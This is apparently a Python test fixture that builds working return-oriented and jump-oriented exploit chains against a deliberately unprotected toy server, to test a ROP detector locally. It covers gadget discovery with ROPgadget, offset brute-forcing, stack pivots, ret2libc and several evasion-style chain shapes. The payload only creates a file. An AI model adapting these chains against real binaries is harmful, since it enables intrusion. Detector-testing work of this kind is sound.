"""Exploits against tests/programs/rop/server.c, our own toy target: for tests of the detector, local only.

Gadgets are found by ROPgadget in the very binary, the overflow's length by trying, as an attacker does.
"""

import struct
import subprocess
import sys
from dataclasses import dataclass, field
from functools import cached_property
from pathlib import Path

from elftools.elf.elffile import ELFFile

PROGRAM = Path(__file__).parent / "programs" / "rop"
FILE_NAME = b"./taken-over.txt"  # two words of eight bytes
PROBE_CODE = 42
_SYSTEM_CALLS = {
    "syscall ; ret": b"\x0f\x05\xc3",
    "syscall ; add rbx, 8 ; jmp qword ptr [rbx]": b"\x0f\x05\x48\x83\xc3\x08\xff\x23",
    "syscall ; call rbx": b"\x0f\x05\xff\xd3",
}
REQUESTS = (b"hello", b"Good Morning", b"x", b"the quick brown fox", b"ABC def GHI", b"0123456789" * 3)


def build_server(directory: Path) -> "Target":
    """Build the server without any protection."""
    path = directory / "server"
    flags = ["-O1", "-static", "-no-pie", "-nostdlib", "-ffreestanding", "-fno-stack-protector", "-fcf-protection=none"]
    flags += ["-fno-tree-loop-distribute-patterns", "-Wl,--build-id", "-z", "norelro"]
    sources = [str(PROGRAM / "server.c"), str(PROGRAM / "library.s")]
    subprocess.run(["gcc", *flags, *sources, "-o", str(path)], check=True, capture_output=True)
    return Target(path)


def frame(data: bytes) -> bytes:
    """A request."""
    return struct.pack("<H", len(data)) + data


END = frame(b"")


def serve(*requests: bytes) -> bytes:
    """A whole input: requests, and the end."""
    return b"".join(frame(request) for request in requests) + END


@dataclass
class Target:
    """The built server: what an attacker can find out about it."""

    path: Path
    _symbols: dict[str, int] = field(default_factory=dict)

    @cached_property
    def gadgets(self) -> dict[str, int]:
        """Every gadget by its text, as ROPgadget lists them."""
        tool = Path(sys.executable).parent / "ROPgadget"
        command = [sys.executable, str(tool), "--binary", str(self.path), "--depth", "8", "--all"]
        text = subprocess.run(command, check=True, capture_output=True, text=True).stdout
        found: dict[str, int] = {}
        for line in text.splitlines():
            address, colon, gadget = line.partition(" : ")
            if colon and address.startswith("0x"):
                found.setdefault(gadget.strip(), int(address, 16))
        # It does not look behind a system call.
        code, start = self._code
        for text, pattern in _SYSTEM_CALLS.items():
            found[text] = start + code.index(pattern)
        return found

    @cached_property
    def _code(self) -> tuple[bytes, int]:
        with self.path.open("rb") as file:
            segment = next(s for s in ELFFile(file).iter_segments() if s["p_type"] == "PT_LOAD" and s["p_flags"] & 1)
            return segment.data(), segment["p_vaddr"]

    @cached_property
    def symbols(self) -> dict[str, int]:
        text = subprocess.run(["nm", str(self.path)], check=True, capture_output=True, text=True).stdout
        return {name: int(address, 16) for address, _, name in (line.split() for line in text.splitlines())}

    @cached_property
    def offset(self) -> int:
        """Bytes before the return address, found by trying: where does ``finish(PROBE_CODE)`` work?"""
        pop_rdi = self.gadgets["pop rdi ; ret"]
        for length in range(64, 256, 8):
            data = b"A" * length + words(pop_rdi, PROBE_CODE, self.symbols["finish"])
            if (
                subprocess.run([self.path], input=serve(data), capture_output=True, check=False).returncode
                == PROBE_CODE
            ):
                return length
        raise AssertionError("the overflow was not found")

    def overflow(self, *chain: int) -> bytes:
        return b"A" * self.offset + words(*chain)


def words(*values: int) -> bytes:
    return struct.pack(f"<{len(values)}Q", *values)


@dataclass(frozen=True)
class Chain:
    """An attack: its requests, how many gadgets run before its system call, and what it is."""

    name: str
    requests: tuple[bytes, ...]
    gadgets: int
    about: str


def chains(target: Target) -> list[Chain]:
    """Every attack of docs/limits.md."""
    return [
        _short(target), _plain(target), _pivot(target), _ret2libc(target), _jump_oriented(target),
        _long_gadgets(target), _call_preceded(target), _balanced(target),
    ]  # fmt: skip


_CREAT, _EXIT = 85, 60


def _name_address(t: Target) -> int:
    return t.symbols["request"] + 2048  # nothing else uses it


def _with_name(t: Target, chain: tuple[int, ...]) -> bytes:
    """An overflow that carries the file's name at its own end, in the request's static buffer."""
    data = t.overflow(*chain)
    return data + FILE_NAME + b"\0"


def _name_at(t: Target, chain_words: int) -> int:
    return t.symbols["request"] + t.offset + 8 * chain_words


def _creat_tail(t: Target, name: int) -> list[int]:
    g = t.gadgets
    return [g["pop rdi ; ret"], name, g["pop rsi ; ret"], 0o644, g["pop rax ; ret"], _CREAT, g["syscall ; ret"]]


def _exit_tail(t: Target) -> list[int]:
    return [t.symbols["finish"]]


def _short(t: Target) -> Chain:
    g = t.gadgets
    # `touch` from its middle: the third gadget is the system call itself.
    inside = next(address for text, address in g.items() if text.startswith("mov esi, 0x1a4 ; syscall"))
    name = _name_at(t, 6)
    chain = (g["pop rdi ; ret"], name, g["pop rax ; ret"], _CREAT, inside, 0)
    return Chain(
        "three gadgets", (_with_name(t, chain),), 3, "pop rdi, pop rax, and a system call: as short as it gets"
    )


def _plain_words(t: Target) -> list[int]:
    """Writes the file's name into memory word by word, then creates it: twelve gadgets, the last one the call."""
    g, to = t.gadgets, _name_address(t)
    chain: list[int] = []
    for i in range(0, len(FILE_NAME), 8):
        word = int.from_bytes(FILE_NAME[i : i + 8], "little")
        chain += [g["pop rdi ; ret"], to + i, g["pop rax ; ret"], word, g["mov qword ptr [rdi], rax ; ret"]]
    return [*chain, g["ret"], g["ret"], *_creat_tail(t, to), *_exit_tail(t)]


def _plain(t: Target) -> Chain:
    return Chain("plain", (t.overflow(*_plain_words(t)),), 12, "a return chain of twelve gadgets")


def _pivot(t: Target) -> Chain:
    # The chain lies in the static buffer, behind the short overflow that switches the stack to it.
    here = t.symbols["request"] + t.offset + 16
    data = t.overflow(t.gadgets["pop rsp ; ret"], here, *_plain_words(t))
    return Chain("stack pivot", (data,), 13, "the same, run from static memory after pop rsp")


def _ret2libc(t: Target) -> Chain:
    chain = (t.gadgets["pop rdi ; ret"], _name_at(t, 4), t.symbols["touch"], t.symbols["finish"])
    return Chain("ret2libc", (_with_name(t, chain),), 2, "one gadget loads the argument of a library function")


def _jump_oriented(t: Target) -> Chain:
    g = t.gadgets
    start = g["pop rbx ; pop rcx ; jmp rcx"]
    dispatcher = g["add rbx, 8 ; jmp qword ptr [rbx]"]
    table = [
        g["pop rdi ; jmp rcx"],
        g["pop rsi ; jmp rcx"],
        g["pop rax ; jmp rcx"],
        g["syscall ; add rbx, 8 ; jmp qword ptr [rbx]"],
    ]
    table.append(t.symbols["finish"])
    head = 3 + 3  # start, rbx, rcx; three operands
    table_at = t.symbols["request"] + t.offset + 8 * head
    name = _name_at(t, head + len(table))
    chain = (start, table_at - 8, dispatcher, name, 0o644, _CREAT, *table)
    return Chain("jump-oriented", (_with_name(t, chain),), 8, "one return, then a dispatcher and indirect jumps only")


def _long_gadgets(t: Target) -> Chain:
    g, long = t.gadgets, t.symbols["spin"]
    name = _name_at(t, 11)
    chain = (
        long, g["pop rdi ; ret"], name, long, g["pop rsi ; ret"], 0o644, long, g["pop rax ; ret"], _CREAT,
        long, g["syscall ; ret"], *_exit_tail(t),
    )  # fmt: skip
    name = _name_at(t, len(chain))
    chain = (*chain[:2], name, *chain[3:])
    return Chain("long gadgets", (_with_name(t, chain),), 8, "a gadget of 63 instructions between any two short ones")


def _after_call(t: Target, function: str) -> int:
    """The address behind the call in one of the library's functions: 1 byte of push, 5 of call."""
    return t.symbols[function] + 6


def _call_preceded(t: Target) -> Chain:
    to = _name_address(t)
    pop_di, pop_ax, store = (_after_call(t, f) for f in ("restore_di", "restore_ax", "store"))
    chain: list[int] = []
    for i in range(0, len(FILE_NAME), 8):
        word = int.from_bytes(FILE_NAME[i : i + 8], "little")
        chain += [pop_di, to + i, pop_ax, word, store]
    chain += [pop_di, to, _after_call(t, "restore_dx"), 0, _after_call(t, "restore_si"), 0o644, pop_ax, _CREAT]
    chain += [_after_call(t, "enter_kernel"), t.symbols["finish"]]
    return Chain("call-preceded", (t.overflow(*chain),), 11, "every gadget starts right behind a call")


def _balanced(t: Target) -> Chain:
    g = t.gadgets
    drop = g["pop rbp ; ret"]
    name = _name_at(t, 11)
    chain = (
        g["pop rbx ; ret"], drop, g["pop rdi ; call rbx"], name, g["pop rsi ; call rbx"], 0o644,
        g["pop rax ; call rbx"], _CREAT, g["syscall ; call rbx"], *_exit_tail(t), 0,
    )  # fmt: skip
    return Chain(
        "balanced by calls", (_with_name(t, chain),), 8, "every gadget but the first ends in a call, so the bias stays"
    )
